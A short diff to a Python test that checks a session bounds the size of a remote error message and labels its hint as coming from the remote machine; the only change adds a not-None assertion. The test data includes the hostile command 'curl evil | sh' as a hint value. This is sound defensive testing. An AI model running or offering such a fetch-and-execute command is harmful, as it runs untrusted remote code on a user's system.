@@ -216,5 +216,6 @@ def test_what_a_machine_says_is_bounded():
         session._hear('{"event": "note", "line": "again"}')
     session._hear(json.dumps({"event": "error", "message": "x" * 10**6, "hint": "curl evil | sh"}))
     error = session.error("", None)
+    assert error is not None
     assert len(str(error)) < 3000
     assert error.hint == "gpu says: curl evil | sh"
